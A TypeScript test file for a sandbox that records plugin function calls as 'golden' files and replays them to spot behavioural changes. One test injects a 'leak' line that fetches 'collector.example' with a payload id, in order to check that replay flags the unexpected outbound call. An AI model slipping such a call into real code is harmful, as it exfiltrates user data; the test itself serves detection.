import type { HostCalls } from '../invocation.ts';
import { openSandbox } from '../open-sandbox.ts';
import { HostCallRefusal } from '../parent/refusal.ts';
import type { Sandbox } from '../sandbox.ts';
import { callOf, codeOf, digestOfCode } from '../testing/call-of.ts';
import { recordedOutcome } from './golden-outcome.ts';
import type { NamedGolden } from './golden.ts';
import { readGoldenSet } from './read-golden-set.ts';
import { recordGolden } from './record-golden.ts';
import { replayGoldenSet } from './replay-golden-set.ts';

const LOOK_UP = `
  const seen = await api.storage.get('seen');
  const answer = await api.fetch('https://register.example/v1?q=' + payload.id, { method: 'POST', body: 'x' });
  const denied = await api.host.call('crm.read').catch((error) => error.code);
  return { seen, status: answer.status, denied, lucky: Math.random(), at: Date.now() };`;

const world: HostCalls = ({ op }) => {
  if (op === 'storage.get') return Promise.resolve(4);
  if (op === 'fetch') return Promise.resolve({ status: 200, headers: {}, body: '{}' });
  return Promise.reject(new HostCallRefusal('NOT_AVAILABLE', 'Not here.'));
};

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await openSandbox({ executors: 1, workers: 1 });
});
afterAll(() => sandbox.close());

async function record(body: string, host = world): Promise<NamedGolden> {
  const call = { ...callOf(body, { payload: { id: 'c1' } }), context: {}, settings: { tone: 'warm' } };
  const { golden } = await recordGolden(sandbox, 'lookUp', call, host);
  return { name: 'look-up', golden };
}

async function replay(golden: NamedGolden, body: string, functions = [{ name: 'lookUp', entry: 'run' }]) {
  const code = codeOf(body);
  const { replays } = await replayGoldenSet(
    sandbox,
    [golden],
    { marketplaceId: 'mkt_a', installationId: 'golden', code, codeDigest: digestOfCode(code), functions },
    { budgetMs: 20_000 },
  );
  return replays[0];
}

describe('a golden invocation', () => {
  it('is a file that people can read: what went in, each call with its answer, what came out', async () => {
    const { golden } = await record(LOOK_UP);
    expect(golden).toMatchObject({
      ...{ format: 1, function: 'lookUp', payload: { id: 'c1' }, settings: { tone: 'warm' }, outcome: 'ok' },
      calls: [
        { op: 'storage.get', args: { key: 'seen' }, answer: 4 },
        {
          op: 'fetch',
          args: { url: 'https://register.example/v1?q=c1', method: 'POST' },
          answer: { status: 200 },
        },
        { op: 'crm.read', refusal: { code: 'NOT_AVAILABLE', message: 'Not here.' } },
      ],
      value: { seen: 4, status: 200, denied: 'NOT_AVAILABLE' },
    });
    const file = new Map([['golden/look-up.json', JSON.stringify(golden)]]);
    expect(readGoldenSet(file)).toEqual({ goldens: [{ name: 'look-up', golden }], problems: [] });
  });

  it('comes to the same with the same code, from its file alone', async () => {
    const golden = await record(LOOK_UP);
    const again = await replay(golden, LOOK_UP);
    expect(again).toEqual({ ...recordedOutcome(golden), differences: [] });
    expect(again?.calls).toEqual(['storage.get', 'fetch POST https://register.example', 'crm.read']);
  });

  it('shows a call that was not there, and where it goes, without making it', async () => {
    const golden = await record(LOOK_UP);
    const leak = `await api.fetch('https://collector.example/?' + payload.id).catch(() => 0); ${LOOK_UP}`;
    expect(await replay(golden, leak)).toMatchObject({
      outcome: 'ok',
      calls: ['fetch GET https://collector.example', 'storage.get', expect.anything(), 'crm.read'],
      differences: ['It calls fetch with arguments not seen before.'],
    });
  });

  it('shows another result, another ending, and a function that is gone', async () => {
    const golden = await record('return 1;');
    expect(await replay(golden, 'return 2;')).toMatchObject({ differences: ['Its result is another one.'] });
    expect(await replay(golden, 'throw new Error("no");')).toMatchObject({
      outcome: 'error',
      differences: ['It ended with "ok" and now ends with "error".'],
    });
    expect(await replay(golden, 'return 1;', [])).toMatchObject({
      outcome: 'gone',
      differences: ['There is no function "lookUp" any more.'],
    });
  });

  it('of code that does not end is ended, and the next one runs', async () => {
    const golden = await record('return 1;');
    expect(await replay(golden, 'for (;;);')).toMatchObject({ outcome: 'timeout' });
    expect(await replay(golden, 'return 1;')).toMatchObject({ outcome: 'ok', differences: [] });
  });

  it('may be one that failed', async () => {
    const golden = await record('throw new Error("not today");');
    expect(golden.golden).toMatchObject({
      outcome: 'error',
      message: expect.stringContaining('not today') as string,
    });
    expect(await replay(golden, 'throw new Error("not today");')).toMatchObject({ differences: [] });
  });
});

describe('a set of them', () => {
  const code = { ...callOf('return 1;'), functions: [{ name: 'lookUp', entry: 'run' }] };

  it('is replayed for as long as there is time; what is left is named', async () => {
    const golden = await record('return 1;');
    const set = [golden, { ...golden, name: 'later' }];
    const none = await replayGoldenSet(sandbox, set, code, { budgetMs: -1 });
    expect(none).toEqual({ replays: [], left: ['look-up', 'later'] });
    const all = await replayGoldenSet(sandbox, set, code, { budgetMs: 10_000 });
    expect([all.replays.map(({ name }) => name), all.left]).toEqual([['look-up', 'later'], []]);
  });

  it('ends when nobody wants it any more', async () => {
    const gone = replayGoldenSet(sandbox, [await record('return 1;')], code, {
      budgetMs: 10_000,
      signal: AbortSignal.abort(new Error('withdrawn')),
    });
    await expect(gone).rejects.toThrow('withdrawn');
  });
});
